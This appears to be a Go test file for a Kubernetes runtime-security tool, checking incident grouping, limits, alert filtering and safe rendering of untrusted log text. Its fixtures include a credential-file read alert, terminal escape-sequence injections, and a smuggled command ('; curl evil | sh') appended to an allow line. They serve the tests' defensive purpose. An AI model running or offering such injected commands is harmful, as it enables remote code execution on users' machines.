package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"bobwatch/internal/alert"
	"bobwatch/internal/rule"
	"bobwatch/internal/severity"
	"bobwatch/internal/term"
)

// deviation is an alert of a node as it stands in a log.
func deviation(fingerprint, node, pod string, count uint64, first, last int) alert.Alert {
	a := alert.Alert{
		Fingerprint: fingerprint, Rule: rule.UnexpectedFileAccess, Severity: severity.High, Message: "unexpected read of /etc/shadow by cat",
		Count: count, First: testNow.Add(time.Duration(first) * time.Second), Last: testNow.Add(time.Duration(last) * time.Second),
		Node: node,
	}
	a.Workload = alert.Workload{Namespace: "shop", Kind: "Deployment", Name: "webapp"}
	a.Pod.Name = pod
	a.Allow = "bobctl allow --workload shop/Deployment/webapp --container web --open /etc/shadow --flags O_RDONLY"
	return a
}

// Repeats carry sums and are not added; nodes, and runs of an agent, are.
func TestIncidents(t *testing.T) {
	all := newIncidents()
	for _, a := range []alert.Alert{
		deviation("f1", "node1", "webapp-a", 1, 10, 10),
		deviation("f1", "node1", "webapp-a", 25, 10, 60),
		deviation("f1", "node2", "webapp-b", 3, 5, 70),
		deviation("f2", "node2", "webapp-b", 1, 20, 20),
		deviation("f1", "node2", "webapp-c", 2, 80, 90), // after a restart
		deviation("f1", "node1", "webapp-a", 24, 10, 59),
	} {
		all.add(&a)
	}
	var got []string
	for _, i := range all.sorted() {
		r := i.result()
		got = append(got, fmt.Sprint(r.Fingerprint, " ", r.Count, " ", r.First.Sub(testNow), " ", r.Last.Sub(testNow), " ", r.Nodes, r.Pods))
	}
	want := []string{
		"f2 1 20s 20s [node2] [webapp-b]",
		"f1 30 5s 1m30s [node1 node2] [webapp-a webapp-b webapp-c]",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("incidents (-want +got):\n%s", diff)
	}
}

// A milder form of a known incident counts, and does not cover for it.
func TestIncidentKeepsTheWorst(t *testing.T) {
	all := newIncidents()
	worst, mild := deviation("f", "n", "", 1, 1, 1), deviation("f", "n", "", 2, 1, 2)
	worst.Severity, worst.Message = severity.Critical, "worst"
	all.add(&worst)
	i, fresh := all.add(&mild)
	if r := i.result(); fresh || r.Message != "worst" || r.Count != 2 || !r.Last.Equal(mild.Last) {
		t.Errorf("got %+v, want the worst, with the count and time of the newest", r)
	}
}

func TestIncidentsAreBounded(t *testing.T) {
	all := newIncidents()
	for n := range maxIncidents + 10 {
		a := deviation(fmt.Sprint(n), "node", "", 1, n, n)
		all.add(&a)
	}
	sorted := all.sorted()
	if len(sorted) != maxIncidents || sorted[0].last.Fingerprint != "10" {
		t.Errorf("%d incidents from %s on, want %d from 10 on", len(sorted), sorted[0].last.Fingerprint, maxIncidents)
	}
	for n := range maxPlaces + 10 {
		a := deviation("f", fmt.Sprint("node", n), fmt.Sprint("pod", n), 1, n, n)
		i, _ := all.add(&a)
		if r := i.result(); len(r.Nodes) > maxPlaces || len(r.Pods) > maxPlaces || len(i.counts) > maxPlaces {
			t.Fatalf("%d nodes, %d pods", len(r.Nodes), len(r.Pods))
		}
	}
}

// What a log holds is not believed to be printable, and a line to paste has to
// be an allow command.
func TestIncidentText(t *testing.T) {
	plain := deviation("f", "node1", "webapp-a", 25, -60, 0)
	hostile := plain
	hostile.Message, hostile.Node, hostile.Pod.Name = "m\x1b[2J\n12:00:00 LOW", "n\x1b]0;x\a", "p\r"
	hostile.Workload.Name, hostile.Process.PID, hostile.Process.Comm = "w\u202e", 1, "c\x9b"
	hostile.Ancestors = []alert.Process{{Comm: "a\x00"}}
	pasted := plain
	pasted.Allow = "bobctl allow --workload a/b/c --syscall dup; curl evil | sh"
	for name, tt := range map[string]struct {
		alert alert.Alert
		lines int
		want  string
	}{
		"plain":   {plain, 3, "25 times"},
		"hostile": {hostile, 3, `m\u001b[2J\u000a12:00:00 LOW`},
		"pasted":  {pasted, 2, "unexpected read"},
	} {
		t.Run(name, func(t *testing.T) {
			i, _ := newIncidents().add(&tt.alert)
			text := incidentText((&term.Terminal{}), i, true, testNow)
			if term.EscapeLines(text) != text || strings.Count(text, "\n") != tt.lines || !strings.Contains(text, tt.want) {
				t.Errorf("got %q, want %d printable lines with %q", text, tt.lines, tt.want)
			}
			var out bytes.Buffer
			if err := term.JSON.Line(&out, i.result()); err != nil {
				t.Fatal(err)
			}
			var again incidentResult
			if err := json.Unmarshal(out.Bytes(), &again); err != nil || again.Message != tt.alert.Message || strings.Count(out.String(), "\n") != 1 {
				t.Errorf("JSON is %q (%v), want one line that holds the alert", out.String(), err)
			}
			if _, err := parseAlert(out.Bytes()); err != nil {
				t.Errorf("bobctl allow --alert does not read it: %v", err)
			}
		})
	}
	i, _ := newIncidents().add(&plain)
	if text := incidentText((&term.Terminal{}), i, false, testNow); strings.Contains(text, "bobctl allow") {
		t.Errorf("told again with the command: %s", text)
	}
}

func TestAlertsFilter(t *testing.T) {
	a := deviation("f", "n", "p", 1, 0, 0)
	tests := map[string]struct {
		options alertsOptions
		want    bool
	}{
		"anything":          {alertsOptions{}, true},
		"as severe":         {alertsOptions{severity: "high"}, true},
		"more severe":       {alertsOptions{severity: "critical"}, false},
		"the workload":      {alertsOptions{workload: "shop/Deployment/webapp"}, true},
		"any kind":          {alertsOptions{workload: "//webapp"}, true},
		"another workload":  {alertsOptions{workload: "shop/Deployment/blog"}, false},
		"another namespace": {alertsOptions{workload: "blog/Deployment/webapp"}, false},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			o := tt.options
			o.since = time.Hour
			if o.severity == "" {
				o.severity = "low"
			}
			wanted, err := o.filter()
			if err != nil {
				t.Fatal(err)
			}
			if got := wanted(&a); got != tt.want {
				t.Errorf("wanted: %t, want %t", got, tt.want)
			}
		})
	}
}
